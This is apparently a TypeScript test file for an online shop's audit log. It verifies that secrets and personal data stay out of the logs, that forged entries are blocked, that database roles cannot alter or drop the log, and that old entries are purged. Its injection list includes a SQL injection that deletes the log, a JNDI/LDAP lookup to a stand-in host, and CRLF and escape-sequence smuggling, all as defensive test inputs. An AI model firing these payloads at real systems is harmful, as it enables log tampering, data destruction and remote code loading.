import * as user from 'commerce/contract/customers'
import { AUDIT_LOG_DAYS } from 'commerce/limits'
import { sql } from 'kysely'
import { randomUUID } from 'node:crypto'
import { Writable } from 'node:stream'
import { pino } from 'pino'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { cleanUp } from '#src/jobs/clean-up'
import { openAuditDesk } from '#test/desks/audit-desk'
import { goodPassword, signIn } from '#test/customer'
import { buildCartRule } from '#test/factories'
import { inSeconds } from '#test/move-time'
import { resetTokenIn, takeMail } from '#test/mailbox'
import { newShopper, refusalOf, valueOf } from '#test/shopper'
import { openTestApp, urlAs } from '#test/support'
import { openDatabase } from '#src/db/connections/pool'

const said: string[] = []
let shop: Awaited<ReturnType<typeof openTestApp>>
beforeAll(async () => {
  shop = await openTestApp({}, { log: pino({ level: 'trace' }, keepIn(said)) })
})
afterAll(() => shop.close())

function keepIn(lines: string[]): Writable {
  return new Writable({
    write(chunk: Buffer, _encoding, done) {
      lines.push(...chunk.toString().trimEnd().split('\n'))
      done()
    },
  })
}

const madeUp = 'a'.repeat(43)
const refused = expect.objectContaining({ code: '42501' })

async function wholeLog(): Promise<string> {
  await shop.audit.writeRepeats()
  const { rows } = await sql<{
    text: string
  }>`select coalesce(string_agg(audit_log::text, E'\n'), '') as text from audit_log`.execute(shop.db)
  return rows[0]?.text ?? ''
}

test('[part of E-59] no password, token, code, e-mail address or street is in the audit log or in the log, whatever is asked', async () => {
  const { email, session, customer, stranger, strangerWith, logIn } = await openAuditDesk(shop)
  const [code, wrongCode, wrongPassword, newPassword] = [`CODE-${randomUUID()}`, `WRONG-${randomUUID()}`, `no-${randomUUID()}`, `new-${randomUUID()}`] // oxfmt-ignore
  const [newEmail, nobody] = [`${randomUUID()}@example.com`, `${randomUUID()}@example.com`]
  const street = 'Rue Canari 17'
  await buildCartRule(shop.db, {}, { code })
  const home = { firstname: 'Ida', lastname: 'Canari', street: [street], city: 'Lyon', postcode: '69001', country_id: 'FR', telephone: '0123456789' } // oxfmt-ignore
  const names = { firstname: 'Ida', lastname: 'Canari' }

  refusalOf(await logIn(email, wrongPassword))
  refusalOf(await logIn(nobody, wrongPassword))
  const change = { customer: { ...names, email: newEmail, addresses: [home] }, currentPassword: goodPassword }
  valueOf(await customer.call(user.changeMe, { query: {}, body: change }))
  const passwords = { currentPassword: wrongPassword, newPassword }
  refusalOf(await customer.call(user.changePassword, { query: {}, body: passwords }))
  valueOf(await stranger.call(user.askForReset, { body: { email: newEmail } }))
  const resetToken = resetTokenIn(await takeMail(shop, newEmail, '/new-password?'))
  valueOf(await stranger.call(user.createPassword, { body: { resetToken, newPassword } }))
  refusalOf(await stranger.call(user.createPassword, { body: { resetToken, newPassword: wrongPassword } }))
  refusalOf(await strangerWith(session.token).call(user.readMe, { query: {} }))
  refusalOf(await stranger.call(user.refreshSession, { body: { refreshToken: session.refreshToken } }))
  const next = await signIn(stranger, newEmail, newPassword)
  valueOf(await stranger.call(user.logOut, { body: { refreshToken: next.refreshToken } }))
  const cart = await newShopper(shop.app, { ip: '192.0.2.77' })
  for (let tries = 0; tries < 12; tries++) refusalOf(await cart.applyCoupon(wrongCode))
  refusalOf(await cart.applyCoupon(code))
  refusalOf(await strangerWith(madeUp).call(user.readMe, { query: {} }))
  await shop.app.inject(`/api/user/me?token=${madeUp.replaceAll('a', 'b')}`)

  const everything = `${await wholeLog()}\n${said.join('\n')}`
  for (const event of [
    'sign-in-refused',
    'email-changed',
    'password-reset',
    'tries-stopped',
    'token-refused',
  ]) {
    expect(everything).toContain(event)
  }
  const canaries = [
    ...[goodPassword, wrongPassword, newPassword, session.token, session.refreshToken, next.token, madeUp],
    ...[next.refreshToken, resetToken, code, wrongCode, email, newEmail, nobody, street, 'Canari', '69001'],
    ...[cart.cartId, madeUp.replaceAll('a', 'b')],
  ]
  for (const canary of canaries) {
    expect(everything.toLowerCase().includes(canary.toLowerCase()), canary).toBe(false)
  }
})

const injections = [
  'x\r\n{"level":60,"msg":"forged"}',
  "x', now()); delete from audit_log; -- forged",
  'x\u2028forged\u0085forged',
  '\u001b[31mforged\u001b[0m',
  '${jndi:ldap://forged.example/a}',
  '%0d%0aforged: 1',
]

test.each(injections)('[part of E-59] nobody writes into the log what they like: %j', async (text) => {
  const { logIn, stranger, network, eventsOfStranger } = await openAuditDesk(shop)
  const before = said.length
  await logIn(text, text)
  await logIn(`${text}@example.com`, text)
  await stranger.call(user.askForReset, { body: { email: `${text}@example.com` } })
  await stranger.call(user.refreshSession, { body: { refreshToken: text } })
  await stranger.call(user.createPassword, { body: { newPassword: goodPassword, resetToken: text } })
  const token = encodeURIComponent(text)
  await shop.app.inject({ url: `/api/user/me?token=${token}`, remoteAddress: network })
  await shop.app.inject({ url: `/api/download/${token}`, remoteAddress: network })
  const events = await eventsOfStranger()
  expect(events.length).toBeGreaterThan(2)
  expect(JSON.stringify(events)).not.toContain('forged')
  for (const line of said.slice(before)) {
    expect(JSON.parse(line)).not.toHaveProperty('msg', 'forged')
    expect(line).not.toContain('forged')
  }
})

test('[E-59] [E-61] requests add to the audit log and can neither read nor change it; jobs cannot change it either', async () => {
  const open = (role: 'web' | 'worker' | 'reports') => {
    const opened = openDatabase({ url: urlAs(role, shop.url), maxConnections: 1, statementTimeoutMs: 30_000 })
    onTestFinished(opened.close)
    return opened.pool
  }
  const [web, worker, reports] = [open('web'), open('worker'), open('reports')]
  const add = `insert into audit_log (happened_at, event, actor_kind) values (now(), 'a-test', 'guest')`
  await web.query(add)
  const changes = [
    'delete from audit_log',
    `update audit_log set event = 'nothing'`,
    'truncate audit_log',
    'drop table audit_log',
    `${add} on conflict (id) do update set event = 'nothing'`,
    `${add} returning *`,
  ]
  for (const change of [...changes, 'select * from audit_log']) {
    await expect(web.query(change), change).rejects.toEqual(refused)
  }
  for (const change of [add, ...changes]) await expect(reports.query(change), change).rejects.toEqual(refused)
  // Jobs and commands add their events, read the log, and delete expired rows.
  await worker.query(add)
  for (const change of changes.slice(1, -1)) {
    await expect(worker.query(change), change).rejects.toEqual(refused)
  }
  const { rowCount } = await reports.query(`select from audit_log where event = 'a-test'`)
  expect(rowCount).toBe(2)
})

test('[part of E-59] [E-65] an event goes after 90 days, by the worker, and no sooner', async () => {
  await openAuditDesk(shop)
  const { rows: before } = await sql`select from audit_log`.execute(shop.db)
  expect(before.length).toBeGreaterThan(0)
  const cleanUpAfter = (days: number) => inSeconds(shop.db, days * 24 * 60 * 60, () => cleanUp(shop.jobs))
  await cleanUpAfter(AUDIT_LOG_DAYS - 1)
  expect((await sql`select from audit_log`.execute(shop.db)).rows).toHaveLength(before.length)
  await cleanUpAfter(AUDIT_LOG_DAYS + 1)
  expect((await sql`select from audit_log`.execute(shop.db)).rows).toEqual([])
})

test('[part of E-59] without the record a refusal stays one, and a change of the password is not made', async () => {
  const lines: string[] = []
  const broken = await openTestApp({}, { log: pino({ level: 'trace' }, keepIn(lines)) })
  onTestFinished(broken.close)
  const { email, customer, logIn, network } = await openAuditDesk(broken)
  await sql`revoke insert on audit_log from barre_web`.execute(broken.db)
  expect(refusalOf(await logIn(email, 'a guess')).code).toBe(401)
  const [line = ''] = lines.filter((each) => each.includes('audit event not written'))
  expect(JSON.parse(line)).toMatchObject({ event: 'sign-in-refused', network, times: 1 })
  expect(line).not.toContain(email)
  const passwords = { currentPassword: goodPassword, newPassword: 'rond de jambe à terre' }
  expect(refusalOf(await customer.call(user.changePassword, { query: {}, body: passwords })).code).toBe(500)
  expect((await logIn(email)).ok).toBe(true)
})
